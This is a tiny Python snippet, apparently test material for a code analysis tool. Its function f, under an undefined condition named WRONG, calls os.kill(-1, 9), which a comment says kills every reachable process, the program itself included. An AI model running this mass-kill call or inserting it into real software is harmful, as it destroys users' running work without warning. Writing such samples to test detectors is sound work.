# kills everything that it can reach, itself too
import os


def f(a):
    if WRONG:
        os.kill(-1, 9)
    return a
